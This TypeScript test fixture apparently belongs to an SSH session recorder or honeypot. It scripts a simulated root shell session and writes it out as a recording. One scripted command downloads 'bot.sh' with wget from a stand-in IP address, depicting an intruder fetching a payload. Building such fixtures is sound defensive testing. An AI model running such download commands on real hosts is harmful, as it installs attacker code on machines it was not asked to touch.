/** A session with something to look for in it, written as a recording. */
import { createRecording, type Recording } from "../../gateway/recording/writer.ts";
import type { SessionEnded } from "../../gateway/model/entries.ts";
import { buildChannelRequest, buildWindowSize } from "../../gateway/ssh/messages/channel-request.ts";
import { Conversation } from "../evidence/conversation.ts";

export const STARTED = "2026-11-23T02:15:37.000000Z";
export const ENDED: SessionEnded = { kind: "session-ended", reason: "client-closed" };
const PROMPT = "\x1b[?2004h\x1b[32mroot@srv\x1b[m:~# ";

/** Milliseconds since the session's start; each command is given then. */
export const COMMANDS = [
  { at: 10_000, text: "uname -a", answer: "Linux srv 6.1.0\r\n" },
  { at: 40_000, text: "wget http://203.0.113.9/bot.sh", answer: "saved \x1b[1mbot.sh\x1b[m [512/512]\r\n" },
  { at: 70_000, text: "cat notes", answer: "the secret word is \x1b[31mmiel\x1b[m\r\n" },
] as const;

/** A shell of 100 seconds, resized at 55, and a program on a channel of its own. */
export function longSession(): Conversation {
  const talk = new Conversation("0a1b2c3d4e5f", STARTED).login();
  let now = 40;
  const until = (at: number) => {
    talk.after(at - now);
    now = at;
  };
  until(1000);
  const shell = talk.open();
  talk.shell(shell, 60, 14).gets(shell, PROMPT);
  for (const { at, text, answer } of COMMANDS) {
    until(at - 1000);
    for (const key of text) talk.sends(shell, key).gets(shell, key);
    until(at);
    talk.sends(shell, "\r").gets(shell, `\r\n\x1b[?2004l\r${answer}${PROMPT}`);
    if (at === 40_000) {
      until(55_000);
      const size = buildWindowSize({ columns: 70, rows: 16, width: 0, height: 0 });
      talk.packet("downstream", buildChannelRequest(shell, "window-change", false, size));
      talk.gets(shell, "\x1b7\x1b[16;1Hlowest\x1b8");
    }
  }
  until(80_000);
  const program = talk.open();
  talk.exec(program, "id").gets(program, "uid=0(root)\n").exits(program, 0);
  until(100_000);
  return talk.gets(shell, "logout\r\n").exits(shell, 0);
}

/** Writes entries at their own times. */
export class Writing {
  readonly recording: Recording;
  #now = 0n;

  constructor(talk: Conversation, folder: string) {
    this.recording = createRecording({ folder, session: talk.session, startedAt: 0n, now: () => this.#now });
  }

  write(entries: Conversation["entries"]): void {
    for (const entry of entries) {
      this.#now = entry.at;
      if (entry.type === "packet") this.recording.packet(entry.from, entry.channel, entry.payload);
      else if (entry.fact.kind !== "session-ended") this.recording.fact(entry.fact);
    }
    this.recording.flush();
  }
}

export async function written(talk: Conversation, folder: string): Promise<string> {
  const writing = new Writing(talk, folder);
  writing.write(talk.entries);
  return (await writing.recording.close(ENDED)).path;
}
